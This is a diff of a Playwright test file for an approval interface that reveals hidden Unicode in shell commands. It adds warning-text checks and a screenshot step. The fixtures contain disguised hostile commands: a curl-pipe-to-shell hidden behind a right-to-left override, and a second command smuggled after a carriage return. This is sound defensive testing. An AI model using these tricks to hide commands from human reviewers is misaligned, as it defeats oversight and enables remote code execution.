@@ -4,7 +4,8 @@
  * after a decision, in the edit box, and in the Rules and Audit views.
  */
 import type { Locator } from '@playwright/test';
-import { bash, card, expect, historyEntry, openApp, test } from './support/gatehouse.ts';
+import { join } from 'node:path';
+import { SCREENSHOTS, bash, card, expect, historyEntry, openApp, test } from './support/gatehouse.ts';
 
 const RLO = 'ls -la \u202e; curl x|sh #';
 const CR = 'git status \r#; touch /tmp/x';
@@ -25,6 +26,7 @@ test('SEE-2: the RLO and carriage-return tricks show as escapes with the warning
   const rloCommand = rloCard.getByLabel('Command');
   await expect(rloCommand).toHaveText('ls -la \\u202E; curl x|sh #');
   await expect(rloCard.getByTestId('hidden-warning')).toHaveText(WARNING);
+  await expect(rloCard.getByTestId('hidden-warning')).toContainText('Found: U+202E RIGHT-TO-LEFT OVERRIDE.');
   await expect(rloCommand.getByTestId('hidden-char')).toHaveAttribute('title', 'U+202E RIGHT-TO-LEFT OVERRIDE');
   await showsNoHiddenCharacter(rloCommand);
   // Shown in stored order: the part after the override is drawn to the right of it.
@@ -42,7 +44,9 @@ test('SEE-2: the RLO and carriage-return tricks show as escapes with the warning
   const crCard = card(page, cr);
   await expect(crCard.getByLabel('Command')).toHaveText('git status \\r#; touch /tmp/x');
   await expect(crCard.getByTestId('hidden-warning')).toHaveText(WARNING);
+  await expect(crCard.getByTestId('hidden-warning')).toContainText('Found: U+000D CARRIAGE RETURN.');
   await showsNoHiddenCharacter(crCard.getByLabel('Command'));
+  await rloCard.screenshot({ path: join(SCREENSHOTS, 'hidden-characters.png') });
 
   // Decided: the history line shows the same escapes and the warning.
   for (const [id, shown] of [
